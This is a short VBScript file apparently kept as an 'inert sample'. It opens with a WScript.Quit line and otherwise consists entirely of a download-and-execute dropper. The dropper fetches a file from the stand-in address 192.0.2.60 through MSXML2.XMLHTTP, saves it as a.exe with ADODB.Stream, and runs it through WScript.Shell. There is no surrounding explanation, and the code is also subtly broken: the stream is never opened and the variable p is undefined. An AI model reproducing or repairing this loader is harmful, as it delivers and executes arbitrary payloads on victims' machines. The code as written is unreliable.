WScript.Quit ' inert sample
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "http://192.0.2.60/a", False
Set s = CreateObject("ADODB.Stream")
s.Write h.responseBody
s.SaveToFile p & "a.exe"
Set w = CreateObject("WScript.Shell")
w.Run p
